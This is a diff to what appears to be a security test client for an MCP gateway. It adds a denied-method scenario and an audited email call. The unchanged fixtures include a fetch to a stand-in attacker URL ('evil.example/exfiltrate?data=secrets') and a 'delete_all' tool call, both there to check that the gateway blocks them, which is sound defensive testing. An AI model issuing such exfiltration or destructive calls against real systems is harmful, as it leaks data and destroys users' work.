@@ -12,8 +12,8 @@ the scenario ran to an outcome; the test decides whether the outcome is the expe
 The MCP endpoint is --url, else $MCP_GATEWAY_URL/<server>; the caller's token is read from
 --token-file, else $AGENTGUARD_GATE_TOKEN_FILE, and sent as "Authorization: Bearer <token>".
 
-MCP scenarios (through the SDK): list-tools, allowed-call, denied-tool, bad-url-host, path-traversal,
-bad-recipient, oversized, allowed-read, allowed-fetch, no-token, forged-token.
+MCP scenarios (through the SDK): list-tools, denied-method (resources/list), allowed-call, denied-tool, bad-url-host, path-traversal,
+bad-recipient, oversized, allowed-read, audited-call, allowed-fetch, no-token, forged-token.
 Raw HTTP scenarios (what the SDK would never send): header-mismatch, batch, duplicate-keys, too-large.
 Egress through $HTTPS_PROXY (--target HOST:PORT, --sni, --ca): https-proxy-allowed (python requests),
 https-proxy-connect (a CONNECT by hand, optionally --proxy-token), https-proxy-ip-literal,
@@ -39,6 +39,7 @@ EMAIL = {"to": "ops@example.com", "subject": "nightly report", "body": "all gree
 CALLS = {
     "allowed-call": ("send_email", EMAIL),
     "allowed-read": ("read_file", {"path": "/workspace/notes.md"}),
+    "audited-call": ("send_email", dict(EMAIL, subject="audited")),
     "allowed-fetch": ("fetch_page", {"url": "https://docs.example.com/guide"}),
     "denied-tool": ("delete_all", {}),
     "bad-url-host": ("fetch_page", {"url": "https://evil.example/exfiltrate?data=secrets"}),
@@ -141,6 +142,10 @@ async def run_mcp(args, out):
                 if args.scenario == "list-tools":
                     tools = await client.list_tools()
                     out.update(outcome="result", tools=sorted(t.name for t in tools.tools))
+                    return
+                if args.scenario == "denied-method":  # resources/list: not a tool call, not listed
+                    resources = await client.list_resources()
+                    out.update(outcome="result", resources=[str(r.uri) for r in resources.resources])
                     return
                 tool, arguments = CALLS[args.scenario]
                 result = await client.call_tool(tool, arguments)
@@ -302,7 +307,7 @@ def main():
     parser.add_argument("--timeout", type=float, default=15)
     args = parser.parse_args()
     out = {"scenario": args.scenario}
-    if args.scenario in CALLS or args.scenario == "list-tools":
+    if args.scenario in CALLS or args.scenario in ("list-tools", "denied-method"):
         asyncio.run(run_mcp(args, out))
     elif args.scenario in ("header-mismatch", "batch", "duplicate-keys", "too-large"):
         try:
